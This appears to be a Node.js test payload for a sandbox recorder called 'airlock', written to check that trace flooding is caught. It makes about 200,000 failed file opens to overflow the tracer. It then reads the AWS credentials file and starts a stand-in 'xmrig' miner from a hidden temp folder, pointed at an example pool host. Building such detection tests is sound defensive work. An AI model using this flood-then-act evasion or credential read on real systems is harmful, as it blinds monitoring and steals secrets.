// DEFANGED test payload for airlock's recorder (issue 19, "trace flooding"). Only ever
// run inside `airlock scan`. It first makes ~200k failed open() calls with ~2 KB paths,
// which used to fill the tracer's output area so that nothing after them was recorded,
// then does what the flood was meant to hide: it reads a credential file (a canary
// planted by airlock) and drops and starts a stand-in "miner" (a shell script that only
// opens a TCP connection to a pool-looking host on port 3333, which the sink answers).
// Nothing it sends on the wire is proof by itself: the proof is in the trace.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const N = 200000;
const long = ('d'.repeat(200) + '/').repeat(10);
for (let i = 0; i < N; i++) {
  try {
    fs.closeSync(fs.openSync('/nonexistent/' + long + i, 'r'));
  } catch (_) {}
}

let creds = '';
try {
  creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
} catch (_) {}

const dir = path.join(os.tmpdir(), '.cache-x');
fs.mkdirSync(dir, { recursive: true });
const miner = path.join(dir, 'xmrig');
fs.copyFileSync(path.join(__dirname, 'miner.sh'), miner);
fs.chmodSync(miner, 0o755);
spawnSync(
  miner,
  ['-o', 'pool.minexmr.example:3333', '-u', '49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUm', '--donate-level=1'],
  { stdio: 'ignore', timeout: 10000 }
);
console.log('flood done', creds.length > 0);
